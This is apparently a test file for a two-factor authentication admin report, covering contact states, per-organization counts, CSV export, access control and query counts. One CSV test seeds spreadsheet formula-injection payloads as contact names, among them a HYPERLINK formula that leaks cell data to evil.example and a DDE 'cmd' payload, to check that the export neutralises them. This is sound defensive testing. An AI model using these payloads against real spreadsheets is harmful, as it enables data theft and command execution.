/**
 * The report (product spec §11): a seeded population with a contact in every state, counted per
 * organization and listed per contact, on libSQL and PostgreSQL; each state checked against what
 * that contact's next login really does; the CSV (RFC 4180, no cell a spreadsheet runs as a
 * formula); who may read it; and a portal of 1,000 contacts read in as many statements as one of 7.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ReportContactDto, ReportDto } from '../../protocol/dto.js';
import type { TwoFactorStore } from '../../server/index.js';
import { createTestDatabase, describeWithPostgres } from '../contract/pg-database.js';
import { createHarness, enroll, setSettings, type Browser, type Harness } from '../support/harness.js';

/** Locks a user's code step through the store: one wrong try at a live code, with a lock after one. */
async function lockCodeStep(store: TwoFactorStore, userId: string, now: number) {
  const sessionIdHash = `locking-${userId}`;
  const { generation } = await store.getSettings();
  const { enrollment } = await store.getFactorState(userId);
  await store.createSession({ idHash: sessionIdHash, userId, status: 'pending', step: 'verify', amr: 'pwd', createdAt: now, expiresAt: now + 600_000, lastSeenAt: now, ip: '192.0.2.9', generation });
  await store.putCode({ sessionIdHash, userId, purpose: 'login', phone: enrollment!.phone, codeHash: 'right', sentAt: now, expiresAt: now + 300_000, generation });
  const tried = await store.tryCode({ userId, sessionIdHash, purpose: 'login', codeHash: 'wrong', tryId: `lock-${userId}`, now, maxAttempts: 5, lock: { windowMs: 900_000, lockAfter: 1, lockMs: 900_000, hardLockAfter: 100 } });
  if (tried.kind !== 'rejected' || !tried.lockedNow) throw new Error(`could not lock ${userId}: ${JSON.stringify(tried)}`);
  await store.deleteSession(sessionIdHash);
}

const contact = (id: string, name: string, organizationId: string | null) => ({
  id,
  email: `${id.slice(4)}@example.com`,
  name,
  passwordHash: '',
  organizationId,
  role: 'contact' as const,
  masterAdmin: false,
});

/** Adds accounts with the demo's password (hash copied from a seeded account). */
async function addContacts(h: Harness, list: ReturnType<typeof contact>[]) {
  const { passwordHash } = (await h.store.accounts.getAccount('usr-demo'))!;
  for (const c of list) await h.store.accounts.ensureAccount({ ...c, passwordHash });
}

/**
 * The demo portal with one contact in each state, 2FA on with opt-out allowed:
 * - Demo Company (inherit): Demo Owner enrolled and signed in, Pat skipped, Ann never signed in;
 * - Acme (required): Lee skipped while Acme still inherited, Max enrolled and then locked;
 * - Exempt Co (exempt): Eve, enrolled before Exempt Co was exempted;
 * - no organization: Solo.
 */
async function seedPopulation(h: Harness) {
  await h.store.accounts.ensureOrganization({ id: 'org-exempt', name: 'Exempt Co' });
  await addContacts(h, [contact('usr-ann', 'Ann Demo', 'org-demo'), contact('usr-max', 'Max Acme', 'org-acme'), contact('usr-eve', 'Eve Exempt', 'org-exempt'), contact('usr-solo', 'Solo Contact', null)]);
  const admin = await setSettings(h, true, true);
  await enroll(h, 'demo@example.com', '+12025550143');
  const demo = h.browser();
  await demo.login('demo@example.com');
  expect((await demo.post('/verify', { code: demo.code('+12025550143') })).body.step).toBe('authenticated');
  h.clock.advance(31);
  for (const email of ['pat@example.com', 'lee@acme.example']) {
    const b = h.browser();
    expect((await b.login(email)).body).toEqual({ step: 'enroll', canSkip: true });
    expect((await b.post('/enroll/skip')).body.step).toBe('authenticated');
  }
  await enroll(h, 'max@example.com', '+12025550144');
  await enroll(h, 'eve@example.com', '+12025550145');
  await lockCodeStep(h.store, 'usr-max', h.clock.now);
  expect((await admin.put('/admin/organizations/org-acme/two-factor', { policy: 'required' })).status).toBe(200);
  expect((await admin.put('/admin/organizations/org-exempt/two-factor', { policy: 'exempt' })).status).toBe(200);
  return admin;
}

const byId = (r: ReportDto) => Object.fromEntries(r.contacts.map((c) => [c.id, c]));
const states = (r: ReportDto) => Object.fromEntries(r.contacts.map((c) => [c.id, c.state]));
const zero = { contacts: 0, enrolled: 0, skipped: 0, toEnroll: 0, exempt: 0, off: 0, locked: 0, resetRequested: 0, inGrace: 0 };

/** A minimal RFC 4180 reader: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  if (cell !== '' || row.length) throw new Error('the CSV does not end with CRLF');
  return rows;
}

function reportSuite(open: () => Promise<Harness>) {
  let h: Harness;
  beforeEach(async () => {
    h = await open();
  });
  afterEach(async () => h.close());

  it('counts each state per organization and lists each contact with its last login and enrollment date', async () => {
    const admin = await seedPopulation(h);
    const res = await admin.get('/admin/report');
    expect(res.status).toBe(200);
    const r = res.body as ReportDto;
    expect(r.portal).toEqual({ id: 'demo', name: expect.any(String) });
    expect(r.settings).toEqual({ enabled: true, allowOptOut: true, enforceFrom: null, generation: 1 });
    expect(r.graceUntil).toBeNull();
    expect(states(r)).toEqual({
      'usr-demo': 'enrolled',
      'usr-pat': 'skipped',
      'usr-ann': 'to_enroll',
      // Acme is required now: Lee's skip no longer lets Lee in.
      'usr-lee': 'to_enroll',
      'usr-max': 'enrolled',
      'usr-eve': 'exempt',
      'usr-solo': 'to_enroll',
      // The demo's platform operator is a contact of the demo portal, of no organization.
      'usr-ops': 'to_enroll',
    });
    expect(r.organizations).toEqual([
      { id: 'org-acme', name: 'Acme', policy: 'required', ...zero, contacts: 2, enrolled: 1, toEnroll: 1, locked: 1 },
      { id: 'org-demo', name: 'Demo Company', policy: 'inherit', ...zero, contacts: 3, enrolled: 1, skipped: 1, toEnroll: 1 },
      { id: 'org-exempt', name: 'Exempt Co', policy: 'exempt', ...zero, contacts: 1, exempt: 1 },
      { id: '', name: '', policy: 'inherit', ...zero, contacts: 2, toEnroll: 2 },
    ]);
    expect(r.totals).toEqual({ ...zero, contacts: 8, enrolled: 2, skipped: 1, toEnroll: 4, exempt: 1, locked: 1 });

    const c = byId(r);
    expect(c['usr-demo']).toMatchObject({ name: 'Demo Owner', email: 'demo@example.com', organizationId: 'org-demo', organizationName: 'Demo Company', locked: false, resetRequestedAt: null, graceUntil: null, skippedAt: null });
    expect(Date.parse(c['usr-demo']!.enrolledAt!)).toBeLessThan(Date.parse(c['usr-demo']!.lastLoginAt!));
    expect(c['usr-pat']).toMatchObject({ enrolledAt: null, skippedAt: expect.any(String), lastLoginAt: c['usr-pat']!.skippedAt });
    expect(c['usr-ann']).toMatchObject({ lastLoginAt: null, enrolledAt: null, skippedAt: null });
    expect(c['usr-max']).toMatchObject({ locked: true, enrolledAt: expect.any(String), lastLoginAt: null });
    // An exempt contact's old enrollment is not shown as protection they have.
    expect(c['usr-eve']).toMatchObject({ enrolledAt: null });
    expect(c['usr-solo']).toMatchObject({ organizationId: '', organizationName: '' });
    // By organization, then by name.
    expect(r.contacts.map((x) => x.id)).toEqual(['usr-ops', 'usr-solo', 'usr-lee', 'usr-max', 'usr-ann', 'usr-demo', 'usr-pat', 'usr-eve']);
  });

  it("each state is what the contact's next login does", async () => {
    const admin = await seedPopulation(h);
    const r = (await admin.get('/admin/report')).body as ReportDto;
    const next = async (x: ReportContactDto) => {
      const res = await h.browser('198.51.100.50').login(x.email);
      return res.status === 429 ? 'locked' : res.body.step;
    };
    const expected: Record<string, string> = { enrolled: 'verify', skipped: 'authenticated', to_enroll: 'enroll', exempt: 'authenticated' };
    for (const x of r.contacts) {
      h.clock.advance(31);
      expect([x.id, await next(x)]).toEqual([x.id, x.locked ? 'locked' : expected[x.state]]);
    }
  });

  it('says off for everyone but the exempt when the portal turns 2FA off, and asks everyone again when it is back on', async () => {
    const admin = await seedPopulation(h);
    expect((await admin.put('/admin/settings', { enabled: false, allowOptOut: true })).status).toBe(200);
    const off = (await admin.get('/admin/report')).body as ReportDto;
    expect(off.totals).toEqual({ ...zero, contacts: 8, off: 7, exempt: 1, locked: 1 });
    expect((await admin.put('/admin/settings', { enabled: true, allowOptOut: false })).status).toBe(200);
    const on = (await admin.get('/admin/report')).body as ReportDto;
    expect(on.totals).toEqual({ ...zero, contacts: 8, toEnroll: 7, exempt: 1, locked: 1 });
  });

  it('is a CSV download with ?format=csv: a row a contact, RFC 4180 quoting, no cell a spreadsheet runs', async () => {
    const admin = await seedPopulation(h);
    const dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\tTabbed', '\rReturned'];
    const awkward = ['Comma, Name', 'Quote "Q" Name', 'Line\nBreak', 'Ünïcode Ørg'];
    await addContacts(h, [...dangerous, ...awkward].map((name, i) => contact(`usr-x${i}`, name, 'org-demo')));
    await h.store.accounts.ensureOrganization({ id: 'org-eq', name: '=cmd()' });
    await addContacts(h, [{ ...contact('usr-eq', 'In Eq', 'org-eq'), email: '-x@example.com' }]);

    const res = await admin.get('/admin/report?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="2fa-report-demo-2026-01-05.csv"');
    // The body starts with a byte order mark (Excel then reads UTF-8), which text() drops.
    const raw = new Uint8Array(await (await h.app.request('http://portal.test/api/2fa/admin/report?format=csv', { headers: { cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } })).arrayBuffer());
    expect([...raw.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.body as string;
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['Organization', 'Organization ID', 'Organization policy', 'Contact', 'Email', 'Contact ID', '2FA state', 'Grace until', 'Code step locked', 'Reset requested at', 'Last login', 'Enrolled at', 'Skipped at']);
    const json = (await admin.get('/admin/report')).body as ReportDto;
    expect(rows).toHaveLength(json.contacts.length);
    expect(rows.map((row) => row[5])).toEqual(json.contacts.map((x) => x.id));
    const cell = (id: string, column: string) => rows.find((row) => row[5] === id)![header!.indexOf(column)];

    // A formula's first character is neutralised with a quote; the rest of the cell is as typed.
    dangerous.forEach((name, i) => expect(cell(`usr-x${i}`, 'Contact')).toBe(`'${name}`));
    awkward.forEach((name, i) => expect(cell(`usr-x${i + dangerous.length}`, 'Contact')).toBe(name));
    expect(cell('usr-eq', 'Organization')).toBe("'=cmd()");
    expect(cell('usr-eq', 'Email')).toBe("'-x@example.com");
    // No field of the file starts a formula, wherever it is.
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain('"Quote ""Q"" Name"');
    expect(text).toContain('"Line\nBreak"');

    expect(cell('usr-demo', '2FA state')).toBe('Enrolled');
    expect(cell('usr-demo', 'Enrolled at')).toBe(byId(json)['usr-demo']!.enrolledAt);
    expect(cell('usr-pat', '2FA state')).toBe('Skipped (Skip for Now)');
    expect(cell('usr-ann', '2FA state')).toBe('Not enrolled yet');
    expect(cell('usr-eve', '2FA state')).toBe('Exempt');
    expect(cell('usr-max', 'Code step locked')).toBe('yes');
    expect(cell('usr-lee', 'Organization policy')).toBe('required');
  });

  it('is for admins: staff may read it, a contact may not, nor anyone signed out; a bad format is refused', async () => {
    await seedPopulation(h);
    const staff = h.browser('198.51.100.2');
    expect((await staff.login('staff@example.com')).body.step).toBe('authenticated');
    expect((await staff.get('/admin/report')).status).toBe(200);
    expect((await staff.get('/admin/report?format=csv')).status).toBe(200);
    const pat = h.browser();
    expect((await pat.login('pat@example.com')).body.step).toBe('authenticated');
    const refused = await pat.get('/admin/report');
    expect([refused.status, refused.body.error.code]).toEqual([403, 'forbidden']);
    expect((await h.browser().get('/admin/report?format=csv')).status).toBe(401);
    const bad = await staff.get('/admin/report?format=xlsx');
    expect([bad.status, bad.body.error.code, bad.body.error.fields]).toEqual([400, 'bad_request', ['format']]);
  });

  it('reads a portal of 1,000 contacts in as many statements as a portal of 8', async () => {
    const admin = await seedPopulation(h);
    const small = await statementsOf(h, admin, '/admin/report');
    const { passwordHash } = (await h.store.accounts.getAccount('usr-demo'))!;
    const { generation } = await h.store.getSettings();
    for (let i = 0; i < 992; i++) {
      const id = `usr-bulk-${String(i).padStart(4, '0')}`;
      await h.store.accounts.ensureAccount({ ...contact(id, `Bulk ${i}`, i % 2 ? 'org-demo' : 'org-acme'), passwordHash });
      if (i % 3 === 0) await h.store.enroll(id, '+12025550100', generation, h.clock.now);
      else if (i % 3 === 1) await h.store.skip(id, generation, h.clock.now);
    }
    const large = await statementsOf(h, admin, '/admin/report');
    expect(large.report.totals.contacts).toBe(1000);
    expect(large.count).toBe(small.count);
    // The session check, then the report's seven reads (settings, contacts, organizations, and
    // enrollments, skips, locks, last logins) and nothing per contact.
    expect(large.count).toBeLessThanOrEqual(10);
    expect((await statementsOf(h, admin, '/admin/report?format=csv')).count).toBe(large.count);
  });
}

/** The statements one request makes on the harness's database. */
async function statementsOf(h: Harness, b: Browser, path: string): Promise<{ count: number; report: ReportDto }> {
  let count = 0;
  const target = (h.pool ?? h.client) as unknown as Record<string, (...args: unknown[]) => unknown>;
  const methods = h.pool ? ['query'] : ['execute', 'batch'];
  const originals = methods.map((m) => target[m]!);
  methods.forEach((m, i) => {
    target[m] = function (this: unknown, ...args: unknown[]) {
      count += m === 'batch' ? (args[0] as unknown[]).length : 1;
      return originals[i]!.apply(this, args);
    };
  });
  try {
    const res = await b.get(path);
    expect(res.status).toBe(200);
    return { count, report: res.body as ReportDto };
  } finally {
    methods.forEach((m, i) => (target[m] = originals[i]!));
  }
}

describe('the report on libSQL', () => reportSuite(() => createHarness({ file: true })));

describeWithPostgres('the report on PostgreSQL', () => {
  reportSuite(async () => {
    const database = await createTestDatabase();
    const h = await createHarness({ postgres: database.url });
    const close = h.close;
    h.close = async () => {
      await close();
      await database.drop();
    };
    return h;
  });
});
